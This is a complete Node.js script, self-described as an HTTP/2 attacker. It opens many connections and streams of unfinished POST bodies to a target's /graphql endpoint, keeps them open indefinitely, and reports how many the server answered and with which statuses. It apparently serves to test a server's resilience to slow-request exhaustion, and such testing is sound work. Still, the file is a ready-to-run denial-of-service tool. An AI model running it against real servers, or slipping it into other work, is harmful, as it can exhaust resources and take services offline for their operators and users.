// An attacker over HTTP/2: on each of several connections many bodies of a request, none of which comes to its end.
//
//   node unfinished.mjs ADDRESS CONNECTIONS STREAMS BYTES
//
// Sends as much of each as the server lets it, writes a line when nothing more goes, with how many were answered and the
// statuses of the answers, and keeps the others open until its standard input ends.
import { connect } from "node:http2";

const [address, connections, streams, bytes] = process.argv.slice(2);
const piece = Buffer.alloc(Number(bytes), " ");
const statuses = new Map();
let settled = () => {};

function begin(session) {
  const stream = session.request({ ":method": "POST", ":path": "/graphql", "content-type": "application/json" });
  stream.on("error", () => {});
  stream.on("response", ({ ":status": status }) => {
    statuses.set(status, (statuses.get(status) ?? 0) + 1);
    settled();
  });
  stream.write(piece, () => settled());
}

const sessions = Array.from({ length: Number(connections) }, () => connect(address));
for (const session of sessions) {
  session.on("error", () => {});
  for (let index = 0; index < Number(streams); index += 1) begin(session);
}

// Nothing more goes when a round trip after the last answer or piece brought nothing else.
let changes = 0;
settled = () => (changes += 1);
for (let seen = -1; seen !== changes; ) {
  seen = changes;
  for (let round = 0; round < 20; round += 1) {
    await Promise.all(sessions.map((session) => pinged(session)));
  }
}
const answered = [...statuses.values()].reduce((sum, count) => sum + count, 0);
process.stdout.write(`${JSON.stringify({ answered, statuses: Object.fromEntries(statuses) })}\n`);
process.stdin.resume();
process.stdin.on("end", () => process.exit(0));

function pinged(session) {
  return new Promise((resolve) => {
    if (session.closed || session.destroyed || !session.ping(() => resolve())) resolve();
  });
}
